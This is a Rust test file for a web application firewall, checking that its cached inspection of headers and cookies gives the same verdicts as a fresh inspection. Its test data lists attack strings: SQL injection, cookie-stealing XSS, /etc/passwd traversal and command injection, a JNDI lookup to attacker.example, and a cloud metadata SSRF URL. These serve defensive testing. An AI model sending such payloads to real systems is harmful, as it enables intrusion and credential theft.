//! The per-thread memo of header and cookie values gives the verdict a
//! fresh inspection gives: request after request, whatever was seen
//! before, whichever engine saw it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use palisade_waf::{compile, Action, Engine, Request, Verdict, WafSettings};
use proptest::prelude::*;

fn get<'a>(target: &'a str, headers: &'a [(&'a str, &'a [u8])]) -> Request<'a> {
    Request {
        method: "GET",
        target: target.as_bytes(),
        version: "HTTP/1.1",
        headers,
        body: None,
        body_truncated: false,
    }
}

/// Inspects with the memo and without; they must agree.
fn both(engine: &Engine, req: &Request<'_>) -> Verdict {
    let memo = engine.inspect(req);
    let fresh = engine.inspect_uncached(req);
    assert_eq!(memo, fresh, "memo and fresh inspection disagree");
    memo
}

fn rules(v: &Verdict) -> Vec<(&str, &str)> {
    v.matches
        .iter()
        .map(|m| (m.rule_id.as_str(), m.location.as_str()))
        .collect()
}

const SQLI: &[u8] = b"1' union select password from users--";

#[test]
fn a_value_first_seen_after_another_fired_its_rule_still_blocks_alone() {
    let engine = compile(&WafSettings::default()).unwrap();
    // Two headers carry the same injection: when the second is first
    // seen, its rules have already fired on the first.
    let first: Vec<(&str, &[u8])> = vec![
        ("Host", b"shop.example"),
        ("X-Campaign", SQLI),
        ("X-Affiliate", SQLI),
    ];
    let v = both(&engine, &get("/", &first));
    assert_eq!(v.action, Action::Block);
    assert!(
        rules(&v).iter().all(|(_, at)| *at == "header:x-campaign"),
        "{v:?}"
    );
    // Then the second alone, now known to the memo: the same rules, found
    // where they now are.
    let second: Vec<(&str, &[u8])> = vec![("Host", b"shop.example"), ("X-Affiliate", SQLI)];
    let alone = both(&engine, &get("/", &second));
    assert_eq!(alone.action, Action::Block);
    assert_eq!(
        rules(&alone).iter().map(|r| r.0).collect::<Vec<_>>(),
        rules(&v).iter().map(|r| r.0).collect::<Vec<_>>()
    );
    assert!(rules(&alone)
        .iter()
        .all(|(_, at)| *at == "header:x-affiliate"));
}

#[test]
fn an_exclusion_is_applied_where_the_request_is_not_where_the_value_was_seen() {
    let settings: WafSettings =
        toml::from_str(r#"exclusions = [{ path_prefix = "/admin/", categories = ["sqli"] }]"#)
            .unwrap();
    let engine = compile(&settings).unwrap();
    let headers: Vec<(&str, &[u8])> =
        vec![("Host", b"shop.example"), ("Cookie", b"note=1' or '1'='1")];
    // Seen first where sqli is excluded: nothing recorded ...
    let admin = both(&engine, &get("/admin/orders", &headers));
    assert!(
        !rules(&admin).iter().any(|(r, _)| r.starts_with("sqli")),
        "{admin:?}"
    );
    // ... and blocked, from the memo, everywhere else.
    let shop = both(&engine, &get("/checkout", &headers));
    assert_eq!(shop.action, Action::Block, "{shop:?}");
    assert!(rules(&shop)
        .iter()
        .any(|(r, at)| r.starts_with("sqli") && *at == "cookie:note"));
}

#[test]
fn each_engine_has_its_own_memory_of_a_value() {
    // The same cookie value under two rule sets (two sites, or a reload):
    // only the engine with the custom rule blocks it, however they
    // alternate on this thread.
    let strict: WafSettings = toml::from_str(
        r#"
        [[rules]]
        id = "shop-900"
        category = "custom"
        description = "The staff preview cookie, which no visitor may carry"
        targets = ["cookies"]
        literals = ["staff-preview"]
        score = 5
        "#,
    )
    .unwrap();
    let strict = compile(&strict).unwrap();
    let plain = compile(&WafSettings::default()).unwrap();
    // Both engines read cookie values with the same index: only the
    // engine tells their memo entries apart.
    let headers: Vec<(&str, &[u8])> =
        vec![("Host", b"shop.example"), ("Cookie", b"mode=staff-preview")];
    let req = get("/", &headers);
    for _ in 0..3 {
        assert_eq!(both(&strict, &req).action, Action::Block);
        assert_eq!(both(&plain, &req).action, Action::Allow);
    }
    // A fresh compilation of the same rules is another engine, with the
    // same verdicts.
    let again = compile(&WafSettings::default()).unwrap();
    assert_eq!(both(&again, &req).action, Action::Allow);
}

/// Header and cookie values a shop sees: browsers' and visitors', some of
/// them attacks, so that a sequence mixes known and new values, fired and
/// unfired rules.
const VALUES: &[&[u8]] = &[
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    b"fr-FR,fr;q=0.9,en;q=0.8",
    b"8f14e45fceea167a5a36dedd4bea2543",
    b"%7B%22cart%22%3A1732190000%7D",
    b"eyJpZCI6IjEyMyIsImNyZWF0ZWQiOjE3MzIxOTAwMDAsImV4aXN0aW5nIjp0cnVlfQ==",
    b"O'Brien & Sons",
    b"1' or '1'='1",
    b"<script>alert(document.cookie)</script>",
    b"../../../../etc/passwd",
    b"${jndi:ldap://attacker.example/a}",
    b"; cat /etc/passwd",
    b"{{7*7}}",
    b"http://169.254.169.254/latest/meta-data/",
    b"sqlmap/1.7",
    b"1 AND SLEEP(5)",
];

const NAMES: &[&str] = &[
    "User-Agent",
    "Referer",
    "X-Forwarded-Host",
    "X-Campaign",
    "Accept-Language",
];
const COOKIES: &[&str] = &["PHPSESSID", "note", "cart", "_hjSession"];
const PATHS: &[&str] = &["/", "/admin/cms/page", "/checkout/cart", "/search?q=shoes"];

const PARAMS: &[&str] = &["q", "page", "utm_campaign", "redirect"];

/// A request of the sequence: a path, (query parameter, value), (header
/// name, value) and (cookie name, value) picks.
type Picks = (
    usize,
    Vec<(usize, usize)>,
    Vec<(usize, usize)>,
    Vec<(usize, usize)>,
);

/// Percent-encodes every byte but letters and digits.
fn encode(v: &[u8]) -> String {
    v.iter()
        .map(|&b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn request() -> impl Strategy<Value = Picks> {
    (
        0..PATHS.len(),
        proptest::collection::vec((0..PARAMS.len(), 0..VALUES.len()), 0..3),
        proptest::collection::vec((0..NAMES.len(), 0..VALUES.len()), 0..5),
        proptest::collection::vec((0..COOKIES.len(), 0..VALUES.len()), 0..4),
    )
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, .. ProptestConfig::default() })]

    /// A sequence of requests on one thread, under a site with an exclusion
    /// and detect-mode rules: every verdict equals a fresh inspection's,
    /// whatever mix of known and new paths, parameters, headers and
    /// cookies it carries.
    #[test]
    fn any_sequence_gets_fresh_verdicts(seq in proptest::collection::vec(request(), 1..12)) {
        let settings: WafSettings = toml::from_str(
            r#"
            rule_modes = [{ category = "xss", mode = "detect" }]
            exclusions = [
                { path_prefix = "/admin/cms", categories = ["lfi", "rce"] },
                { categories = ["sqli"], args = ["q"] },
            ]
            "#,
        )
        .unwrap();
        let engine = compile(&settings).unwrap();
        for (path, params, headers, cookies) in seq {
            let mut target = PATHS[path].to_owned();
            for (k, &(p, v)) in params.iter().enumerate() {
                let sep = if k == 0 && !target.contains('?') { '?' } else { '&' };
                target.push_str(&format!("{sep}{}={}", PARAMS[p], encode(VALUES[v])));
            }
            let cookie: Vec<u8> = cookies
                .iter()
                .map(|&(n, v)| [COOKIES[n].as_bytes(), b"=", VALUES[v]].concat())
                .collect::<Vec<_>>()
                .join(&b"; "[..]);
            let mut hdrs: Vec<(&str, &[u8])> = vec![("Host", b"shop.example")];
            hdrs.extend(headers.iter().map(|&(n, v)| (NAMES[n], VALUES[v])));
            if !cookie.is_empty() {
                hdrs.push(("Cookie", &cookie));
            }
            let req = get(&target, &hdrs);
            let memo = engine.inspect(&req);
            prop_assert_eq!(memo, engine.inspect_uncached(&req));
        }
    }
}
